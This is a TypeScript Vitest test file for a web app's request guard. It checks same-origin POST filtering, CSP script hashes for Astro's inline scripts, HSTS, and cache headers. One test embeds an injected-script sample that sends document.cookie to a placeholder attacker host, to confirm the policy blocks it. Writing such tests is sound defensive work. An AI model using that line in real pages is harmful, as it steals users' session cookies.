import islandScript from 'astro/runtime/server/astro-island.prebuilt.js';
import loadDirective from 'astro/client/load.prebuilt.js';
import { describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY, isSameOriginWrite, securityHeaders, withSecurityHeaders } from '../../../src/lib/server/request-guard';

const post = (headers: Record<string, string>) => new Request('http://127.0.0.1:4321/api/x', { method: 'POST', headers });
const ORIGIN = 'http://127.0.0.1:4321';

/** CSP Level 3 §8.2 source expression, computed independently through WebCrypto: 'sha256-' + base64 of the UTF-8 script text. */
async function sourceExpression(script: string): Promise<string> {
  const digest = Buffer.from(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(script))).toString('base64');
  return `'sha256-${digest}'`;
}

describe('isSameOriginWrite', () => {
  it('refuses a cross-site POST and allows same-origin, safe methods and non-browser clients', () => {
    expect(isSameOriginWrite(post({ origin: 'http://evil.example' }), ORIGIN)).toBe(false);
    expect(isSameOriginWrite(post({ 'sec-fetch-site': 'cross-site' }), ORIGIN)).toBe(false);
    expect(isSameOriginWrite(post({ origin: ORIGIN }), ORIGIN)).toBe(true);
    expect(isSameOriginWrite(post({}), ORIGIN)).toBe(true);
    expect(isSameOriginWrite(new Request(`${ORIGIN}/`, { headers: { origin: 'http://evil.example' } }), ORIGIN)).toBe(true);
  });

  it('compares with the public origin, not with the URL the server saw', () => {
    const publicOrigin = 'https://slipless.example.org';
    expect(isSameOriginWrite(post({ origin: publicOrigin }), publicOrigin)).toBe(true);
    expect(isSameOriginWrite(post({ origin: ORIGIN }), publicOrigin)).toBe(false);
  });
});

describe('withSecurityHeaders', () => {
  it("allows Astro's own inline scripts and never a script that came with the page's content", async () => {
    const injected = 'fetch("https://evil.example/?" + document.cookie)';
    const html = `<script>${islandScript}</script><p>Title</p><script>${injected}</script>`;
    const response = withSecurityHeaders(new Response(html, { headers: { 'content-type': 'text/html' } }), { https: false, signedIn: false });
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy).toContain(await sourceExpression(islandScript));
    expect(policy).toContain(await sourceExpression(loadDirective));
    expect(policy).not.toContain(await sourceExpression(injected));
    expect(policy).not.toMatch(/script-src[^;]*unsafe-inline/);
    expect(policy).toBe(CONTENT_SECURITY_POLICY);
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("object-src 'none'");
    expect(await response.text()).toBe(html);
  });

  it('leaves JSON without a policy but with the other headers', () => {
    const json = withSecurityHeaders(Response.json({ a: 1 }), { https: false, signedIn: false });
    expect(json.headers.get('content-security-policy')).toBeNull();
    expect(json.headers.get('x-content-type-options')).toBe('nosniff');
    expect(json.headers.get('cache-control')).toBeNull();
  });

  it('marks answers for a signed-in caller as not to be stored', () => {
    const json = withSecurityHeaders(new Response('{}', { headers: { 'cache-control': 'max-age=600' } }), { https: false, signedIn: true });
    expect(json.headers.get('cache-control')).toBe('no-store');
  });

  it('sends Strict-Transport-Security only for HTTPS', () => {
    expect(securityHeaders(true)['Strict-Transport-Security']).toMatch(/^max-age=\d{7,}/);
    expect(securityHeaders(false)).not.toHaveProperty('Strict-Transport-Security');
    const response = withSecurityHeaders(new Response(null, { status: 404 }), { https: true, signedIn: false });
    expect(response.headers.get('strict-transport-security')).toMatch(/^max-age=/);
  });

  it('copies responses whose headers are immutable, such as redirects', () => {
    const redirect = withSecurityHeaders(Response.redirect('http://127.0.0.1/sign-in', 302), { https: false, signedIn: false });
    expect(redirect.status).toBe(302);
    expect(redirect.headers.get('location')).toBe('http://127.0.0.1/sign-in');
    expect(redirect.headers.get('x-frame-options')).toBe('DENY');
  });
});
